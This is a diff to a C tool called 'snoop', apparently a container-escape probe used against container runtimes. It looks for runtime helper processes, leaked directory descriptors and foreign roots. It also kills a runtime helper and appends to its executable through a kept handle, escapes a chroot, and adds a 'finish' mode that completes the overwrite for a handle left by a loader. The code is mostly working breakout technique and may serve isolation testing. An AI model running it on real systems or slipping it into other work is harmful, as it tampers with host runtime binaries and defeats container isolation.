@@ -6,13 +6,15 @@
  *
  *   seen                     a process was stopped while it still was the runtime's helper (by its name)
  *   exe TEXT                 the link /proc/PID/exe can be read, and leads to something else than ours
- *   directory FD TEXT        a descriptor of a directory
+ *   directory FD TEXT        a descriptor of a directory: not of our procfs, and not our root
  *   root                     its root is another than ours
  *   wrote exe                its executable could be opened for writing, and something was appended
  *
  * `snoop escape FILE` leaves its root directory, if it may chroot(2), as far as that can be done, and prints FILE.
  *
- * usage: snoop look | overwrite | escape FILE
+ * `snoop finish` does the last part of overwriting for the handle that loader.c has left.
+ *
+ * usage: snoop look | overwrite | escape FILE | finish
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -37,7 +39,8 @@ static const char *link_of(const char *format, int pid, int fd)
     return length < 0 ? NULL : target;
 }
 
-/* Before Linux 6.14 the name of what was executed by descriptor is that number. */
+/* By the names of the runtimes that this is run against.  Before Linux 6.14 the name of what was executed by descriptor
+ * is that number. */
 static int is_helper(int pid)
 {
     char path[64], name[32] = "";
@@ -47,26 +50,31 @@ static int is_helper(int pid)
         return 0;
     ssize_t length = read(fd, name, sizeof name - 1);
     close(fd);
-    return length > 0 && (strncmp(name, "pyrunc-init", 11) == 0 || strncmp(name, "memfd:pyrunc", 12) == 0 ||
-                          (name[0] >= '0' && name[0] <= '9'));
+    static const char *const names[] = {"pyrunc-init", "memfd:", "runc", "crun", "exe"};
+    for (size_t i = 0; i < sizeof names / sizeof *names; i++)
+        if (length > 0 && strncmp(name, names[i], strlen(names[i])) == 0)
+            return 1;
+    return name[0] >= '0' && name[0] <= '9';
 }
 
 static void look(int pid)
 {
     char path[64];
-    struct stat ours, theirs;
+    struct stat ours, theirs, proc = {0};
     snprintf(path, sizeof path, "/proc/%d/root", pid);
     if (stat("/", &ours) == 0 && stat(path, &theirs) == 0 &&
         (ours.st_ino != theirs.st_ino || ours.st_dev != theirs.st_dev))
         puts("root");
-    if (link_of("/proc/%d/exe", pid, 0) && !strstr(target, "/bin/"))
+    if (link_of("/proc/%d/exe", pid, 0) && !strstr(target, "/bin/busybox"))
         printf("exe %s\n", target);
+    stat("/proc", &proc);
     snprintf(path, sizeof path, "/proc/%d/fd", pid);
     DIR *fds = opendir(path);
     for (struct dirent *entry; fds && (entry = readdir(fds));) {
         char name[400];
         snprintf(name, sizeof name, "%s/%s", path, entry->d_name);
-        if (entry->d_name[0] != '.' && stat(name, &theirs) == 0 && S_ISDIR(theirs.st_mode)) {
+        if (entry->d_name[0] != '.' && stat(name, &theirs) == 0 && S_ISDIR(theirs.st_mode) &&
+            theirs.st_dev != proc.st_dev && (theirs.st_dev != ours.st_dev || theirs.st_ino != ours.st_ino)) {
             link_of("/proc/%d/fd/%d", pid, atoi(entry->d_name));
             printf("directory %s %s\n", entry->d_name, target);
         }
@@ -76,16 +84,11 @@ static void look(int pid)
 }
 
 /* A file that is being executed cannot be written to (ETXTBSY): so a handle is kept beyond the process's end. */
-static void overwrite(int pid)
+static void write_to(int handle, int milliseconds)
 {
     char path[64];
-    snprintf(path, sizeof path, "/proc/%d/exe", pid);
-    int handle = open(path, O_PATH | O_CLOEXEC);
-    if (handle < 0)
-        return;
-    kill(pid, SIGKILL);
     snprintf(path, sizeof path, "/proc/self/fd/%d", handle);
-    for (int i = 0; i < 500; i++) {
+    for (int i = 0; i < milliseconds; i++) {
         int fd = open(path, O_WRONLY | O_APPEND);
         if (fd >= 0) {
             if (write(fd, "x", 1) == 1)
@@ -98,6 +101,17 @@ static void overwrite(int pid)
         usleep(1000);
     }
     close(handle);
+}
+
+static void overwrite(int pid)
+{
+    char path[64];
+    snprintf(path, sizeof path, "/proc/%d/exe", pid);
+    int handle = open(path, O_PATH | O_CLOEXEC);
+    if (handle < 0)
+        return;
+    kill(pid, SIGKILL);
+    write_to(handle, 500);
 }
 
 /* chroot(2) does not change the working directory: from outside of the new root ".." has no end but the topmost. */
@@ -121,6 +135,12 @@ int main(int argc, char **argv)
 {
     if (argc == 3 && strcmp(argv[1], "escape") == 0)
         return escape(argv[2]);
+    if (argc == 2 && strcmp(argv[1], "finish") == 0) {
+        setvbuf(stdout, NULL, _IOLBF, 0);
+        write_to(100, 1500);
+        puts("finished");
+        return 0;
+    }
     static char known[1 << 22];
     int overwriting = argc > 1 && strcmp(argv[1], "overwrite") == 0;
     setvbuf(stdout, NULL, _IOLBF, 0);
